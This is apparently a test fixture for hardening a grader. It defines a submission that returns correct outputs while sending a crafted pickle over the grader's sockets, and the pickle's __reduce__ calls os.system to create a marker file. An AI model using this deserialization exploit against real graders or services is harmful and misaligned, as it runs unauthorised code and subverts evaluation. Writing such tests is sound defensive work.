"""Writes a crafted pickle on the grader's socket: unpickled, it would create a marker file."""
import os
import pickle

from _honest import Correct
from _wire_tools import grader_sockets


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {os.environ.get('ATTACK_MARKERS', '/tmp')}/PWNED_pickle",))


class PickleOnSocket(Correct):
    name = "pickle_on_socket"

    def forward(self, x):
        data = pickle.dumps(("ok", Payload()))
        for sock in grader_sockets():
            sock.sendall(len(data).to_bytes(4, "big") + data)
        return super().forward(x)
